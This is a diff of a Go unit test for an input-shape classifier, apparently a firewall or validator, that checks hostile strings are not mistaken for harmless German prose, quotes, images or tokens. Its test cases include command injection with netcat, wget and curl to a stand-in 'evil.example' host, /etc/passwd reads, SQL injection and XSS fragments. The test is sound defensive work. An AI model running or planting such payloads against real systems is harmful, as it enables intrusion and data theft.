@@ -18,32 +18,55 @@ func TestShapes(t *testing.T) {
 		`{"query":"{route{url}}"}`:                           document,
 		"query Produkte($input:ProductInput!){products{id}}": document,
 
-		"perl -e 'print 1'":          noShape,
-		"nc evil.example 4444":       noShape,
-		"wget http://evil.example/x": noShape,
-		"cat /etc/passwd":            noShape,
-		"id;ls":                      noShape,
-		"sudo su":                    noShape,
-		"timeout 3 bash":             noShape,
-		"x && curl evil.example":     noShape,
-		"x | nc evil 1":              noShape,
-		"$(whoami)":                  noShape,
-		"`id`":                       noShape,
-		"a > /tmp/x":                 noShape,
-		"p'e'rl x.pl":                noShape,
-		"?a=1&whoami":                noShape,
-		"{$(id)}":                    noShape,
+		"Mein Chef trinkt Tee; nice time":                                   prose,
+		"Perl ist z.B. bei Dr.Hauschka im Angebot":                          prose,
+		"it's 'gut'! Immer":                                                 quotation,
+		"\"Sehr gut\"! Immer wieder":                                        quotation,
+		"data:image/png;base64,iVBORw0KGgo=":                                picture,
+		"FPID2.2.tnU619I1atYXRHbrNS8yvM7ce5EGiUZ8OnsDVzJpXAs=.1658172099":   token,
+		"FPID2.2.tnU619I1atYXRHbrNS8yvM7ce5EGiUZ8OnsDVzJpXAs%3D.1658172099": token,
+
+		";touch":                             0,
+		" ;cargo install evil":               0,
+		"|tac x":                             0,
+		"&touch":                             0,
+		"route Evil.Com":                     0,
+		"route evil.com":                     0,
+		"touch & RD x":                       0,
+		"nice time bash":                     0,
+		"\"! Y":                              0,
+		"x \"!":                              0,
+		"'x'!y":                              0,
+		"x' ! 1":                             0,
+		"'x'! union select 1":                0,
+		"'x'! user (1)":                      0,
+		"data:image/svg+xml;base64,PHN2Zz4=": 0,
+		"data:text/html;base64,PHN2Zz4=":     0,
+		"data:image/png;base64,iVBOR' or 1":  0,
+		"aaaaaaaaaaaaaaA1=%22":               0,
+		"x/onload=alert":                     0,
+		"x\" onload=aA1.bbbbbbbbbbb":         0,
+		"perl -e 'print 1'":                  0,
+		"nc evil.example 4444":               0,
+		"wget http://evil.example/x":         0,
+		"cat /etc/passwd":                    0,
+		"id;ls":                              0,
+		"sudo su":                            0,
+		"timeout 3 bash":                     0,
+		"x && curl evil.example":             0,
+		"x | nc evil 1":                      0,
+		"$(whoami)":                          0,
+		"`id`":                               0,
+		"a > /tmp/x":                         0,
+		"p'e'rl x.pl":                        0,
+		"?a=1&whoami":                        0,
+		"{$(id)}":                            0,
 	} {
-		if got, _ := shapeOf(text); got != want && !(want == noShape && got == prose && !isSpokenShape(text)) {
-			t.Errorf("%q: shape %d, want %d", text, got, want)
+		all, misread := shapeOf(text)
+		if want == 0 && misread != 0 || want != 0 && all&want == 0 {
+			t.Errorf("%q: shapes %b, misread %b, want %b", text, all, misread, want)
 		}
 	}
-}
-
-// isSpokenShape reports whether a shape would take rules off a field.
-func isSpokenShape(text string) bool {
-	_, spoken := shapeOf(text)
-	return spoken
 }
 
 func TestTypes(t *testing.T) {
